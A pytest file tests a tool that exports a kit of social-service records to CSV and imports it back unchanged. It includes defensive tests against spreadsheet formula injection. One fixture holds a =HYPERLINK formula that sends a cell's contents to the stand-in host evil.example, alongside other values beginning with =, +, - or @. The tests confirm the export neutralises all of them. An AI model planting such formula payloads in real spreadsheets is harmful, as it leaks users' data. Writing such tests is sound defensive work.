"""`outreach export csv`: a kit's services as the import's spreadsheet, and back again with nothing lost."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
import yaml
from helpers import HSDS_EXAMPLES
from test_import_hsds import TODAY

from outreach.importing import export_csv, import_hsds
from outreach.importing.columns import COLUMNS
from outreach.kit.model import Address, Service
from outreach.output import cell, uncell
from outreach.paths import sample_kit_dir

UNCHANGED = "0 added, 0 changed, {n} unchanged, 0 no longer in the source; nothing to write"


@pytest.fixture
def kit(tmp_path) -> Path:
    return Path(shutil.copytree(sample_kit_dir(), tmp_path / "kit"))


def services(kit: Path) -> dict[str, object]:
    """Every service file's data as YAML reads it."""
    return {p.name: yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted((kit / "services").glob("*.yaml"))}


def read_sheet(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def write_sheet(path: Path, rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8-sig", newline="")


def round_trip(run, kit: Path, sheet: Path) -> str:
    """Export the kit to `sheet` and import it back; the import's stdout."""
    exported = run("export", "csv", "--kit", kit, sheet)
    assert exported.exit_code == 0, exported.output
    imported = run("import", "csv", sheet, "--kit", kit)
    assert imported.exit_code == 0, imported.output
    return imported.stdout


def test_every_field_of_a_service_file_has_a_column():
    fields = set(Service.model_fields) - {"address"} | set(Address.model_fields)
    assert fields <= set(COLUMNS), fields - set(COLUMNS)


def test_the_sample_kit_goes_out_and_comes_back_unchanged(run, kit, tmp_path):
    before = {p.name: p.read_bytes() for p in (kit / "services").iterdir()}
    data = services(kit)
    sheet = tmp_path / "services.csv"

    result = run("export", "csv", "--kit", kit, sheet)
    assert result.exit_code == 0 and result.stderr == ""  # nothing the sheet cannot hold
    assert result.stdout.startswith(f"wrote {sheet}: 8 service(s), one per row;")
    raw = sheet.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,name,summary,kind,")  # a byte-order mark, so Excel reads UTF-8
    rows = read_sheet(sheet)
    assert rows[0][-4:] == ["name:es", "summary:es", "hours:es", "discreet_name:es"]
    assert rows[1][0].startswith("#")  # what each column holds, in a row the import skips
    hotline = dict(zip(rows[0], rows[5], strict=True))
    assert (hotline["id"], hotline["tty"], hotline["interpreters"], hotline["text_languages"]) == (
        "national-hotline",
        "711",
        "yes",
        "en es",
    )
    assert (hotline["discreet_name:es"], hotline["source"]) == ("Línea nacional de ayuda", "")

    imported = run("import", "csv", sheet, "--kit", kit)
    assert imported.exit_code == 0, imported.output
    assert UNCHANGED.format(n=8) in imported.stdout
    assert services(kit) == data
    assert {p.name: p.read_bytes() for p in (kit / "services").iterdir()} == before  # not even rewritten


def test_one_edited_cell_is_the_one_change(run, kit, tmp_path):
    data = services(kit)
    sheet = tmp_path / "services.csv"
    assert run("export", "csv", "--kit", kit, sheet).exit_code == 0
    rows = read_sheet(sheet)
    line = next(r for r in rows if r[0] == "crisis-line")
    line[rows[0].index("hours:es")] = "24 horas, los 7 días"
    write_sheet(sheet, rows)

    result = run("import", "csv", sheet, "--kit", kit)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[:2] == [
        "~ crisis-line (services/crisis-line.yaml)",
        "    hours.es: 24 horas, todos los días → 24 horas, los 7 días",
    ]
    assert "0 added, 1 changed, 7 unchanged, 0 no longer in the source; written" in result.stdout
    after = services(kit)
    data["crisis-line.yaml"]["hours"]["es"] = "24 horas, los 7 días"
    assert after == data  # and the service stays the kit's own: no source was added


HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?q="&A1,"Click for help")',
    "summary": "-5 beds free tonight.   Call first.",
    "kind": "shelter",
    "phone": "+1 612-555-0177",
    "text": "+1 612 555 0178",
    "hours": "+ every day",
    "discreet_name": {"en": "'=Free helpline", "es": "\tLínea gratuita"},
    "regions": ["north"],
    "verified": "2026-10-01",
    "notes": "@Maria: call first.\n'Ohana House, =SUM(A1:A9) and -x here are text\n",
}


def test_hostile_cells_are_neutralised_in_the_file_and_come_back_exactly(run, kit, tmp_path):
    (kit / "services" / "hostile.yaml").write_text(yaml.safe_dump(HOSTILE, allow_unicode=True), encoding="utf-8")
    data = services(kit)
    sheet = tmp_path / "services.csv"
    assert UNCHANGED.format(n=9) in round_trip(run, kit, sheet)
    assert services(kit) == data

    rows = read_sheet(sheet)
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # no cell is a formula
    cells = dict(zip(rows[0], next(r for r in rows if r[0] == "hostile"), strict=True))
    assert cells["name"] == "'" + HOSTILE["name"]
    assert (cells["summary"], cells["phone"], cells["text"]) == (
        "'-5 beds free tonight. Call first.",
        "'+1 612-555-0177",
        "'+1 612 555 0178",
    )
    assert (cells["discreet_name"], cells["discreet_name:es"]) == ("''=Free helpline", "Línea gratuita")
    assert cells["notes"] == "'" + HOSTILE["notes"]  # its line breaks too


@pytest.mark.parametrize("text", ["=1+1", "+1 612", "-x", "@a", "\tt", "\rr", "'=x", "''-x", "'Ohana", "'", "", "a=b"])
def test_the_apostrophe_the_export_adds_is_the_one_the_import_removes(text):
    written = cell(text)
    assert isinstance(written, str) and written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert uncell(written) == text


def test_a_service_imported_from_hsds_comes_back_to_its_file_and_its_source(run, kit, tmp_path):
    report = import_hsds(HSDS_EXAMPLES / "service_full.json", kit, today=TODAY)
    assert report.summary.startswith("1 added")
    data = services(kit)
    imported = data["community-counselling.yaml"]
    assert imported["source"].startswith("hsds:") and imported["regions"] == []  # no region of the kit matches
    sheet = tmp_path / "services.csv"

    assert UNCHANGED.format(n=9) in round_trip(run, kit, sheet)
    assert services(kit) == data
    rows = read_sheet(sheet)
    cells = dict(zip(rows[0], next(r for r in rows if r[0] == "community-counselling"), strict=True))
    assert (cells["source"], cells["regions"]) == (imported["source"], "")
    # and the directory still finds its service
    again = import_hsds(HSDS_EXAMPLES / "service_full.json", kit, today=TODAY)
    assert again.summary == "0 added, 0 changed, 1 unchanged, 0 no longer in the source"


def test_what_a_file_writes_its_own_way_is_not_a_change(run, make_kit, tmp_path):
    """A date in quotes, a number without dashes, an address without state, one with an empty state."""
    shelter = {**HOSTILE, "name": "Shelter", "phone": 6125550177, "address": {"street": "1 Main St", "city": "X"}}
    kit = make_kit(
        {
            "services/shelter.yaml": {**shelter, "address": {**shelter["address"], "confidential": True}},
            "services/other.yaml": {**shelter, "address": {**shelter["address"], "state": "", "confidential": False}},
        }
    )
    data = services(kit)
    assert data["national-hotline.yaml"]["verified"] == "2026-10-15"  # text, not a date
    assert UNCHANGED.format(n=3) in round_trip(run, kit, tmp_path / "services.csv")
    assert services(kit) == data


def test_rows_added_to_an_exported_sheet_are_imported_as_from_a_spreadsheet(run, kit, tmp_path):
    sheet = tmp_path / "services.csv"
    assert run("export", "csv", "--kit", kit, sheet).exit_code == 0
    rows = read_sheet(sheet)
    new = dict.fromkeys(rows[0], "") | {
        "id": "night-line",
        "name": "Night Line",
        "summary": "Call at night.",
        "kind": "hotline",
        "phone": "612-555-0190",
        "verified": "2026-11-01",
    }
    write_sheet(sheet, rows + [[new[c] for c in rows[0]]])
    refused = run("import", "csv", sheet, "--kit", kit)
    assert (
        refused.exit_code == 1 and "services.csv:11:regions: error: is empty; every service needs it" in refused.stderr
    )

    new["regions"] = "north"
    write_sheet(sheet, rows + [[new[c] for c in rows[0]]])
    result = run("import", "csv", sheet, "--kit", kit)
    assert result.exit_code == 0, result.output
    assert "1 added, 0 changed, 8 unchanged" in result.stdout
    after = services(kit)
    assert after["night-line.yaml"]["source"] == "csv:night-line"  # a later sheet without it lists it as gone
    assert not [name for name, data in after.items() if name != "night-line.yaml" and "source" in data]


def test_what_the_sheet_cannot_hold_as_the_file_does_is_named(run, kit, tmp_path):
    odd = {**HOSTILE, "name": "Odd", "languages": ["english"], "colour": "blue"}
    (kit / "services" / "odd.yaml").write_text(yaml.safe_dump(odd), encoding="utf-8")
    result = export_csv(kit)
    said = [str(f) for f in result.findings]
    assert (
        "services/odd.yaml: warning: colour: has no column in the spreadsheet; "
        "the sheet leaves it out (importing it back keeps it in the file)"
    ) in said
    assert not [line for line in said if not line.startswith("services/odd.yaml: warning: ")]

    del odd["colour"]
    (kit / "services" / "odd.yaml").write_text(yaml.safe_dump(odd), encoding="utf-8")
    cli = run("export", "csv", "--kit", kit)  # no FILE: the sheet on stdout
    assert cli.exit_code == 0 and cli.stdout.startswith("id,name,")
    assert cli.stderr.splitlines() == [
        "services/odd.yaml: warning: importing the sheet back would change languages: [english] → [en]"
    ]


def test_mistakes_exit_with_a_message_and_write_nothing(run, kit, tmp_path):
    missing = run("export", "csv", "--kit", tmp_path / "nope", tmp_path / "out.csv")
    assert missing.exit_code == 1 and f"{tmp_path / 'nope'} is not a folder" in missing.stderr
    assert not (tmp_path / "out.csv").exists()

    no_kit = run("export", "csv", tmp_path / "out.csv")
    assert no_kit.exit_code == 2 and "say which kit to export with --kit KIT" in no_kit.stderr

    (kit / "outreach.yaml").unlink()
    assert "has no outreach.yaml" in run("export", "csv", "--kit", kit).stderr
    shutil.copy(sample_kit_dir() / "outreach.yaml", kit / "outreach.yaml")

    sheet = tmp_path / "services.csv"
    sheet.write_text("mine", encoding="utf-8")
    again = run("export", "csv", "--kit", kit, sheet)
    assert again.exit_code == 1 and f"{sheet} already exists; nothing was written" in again.stderr
    assert sheet.read_text(encoding="utf-8") == "mine"
    forced = run("export", "csv", "--kit", kit, sheet, "--force")
    assert forced.exit_code == 0 and forced.stdout.startswith(f"replaced {sheet}: 8 service(s)")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".services.csv")]  # no temporary file left
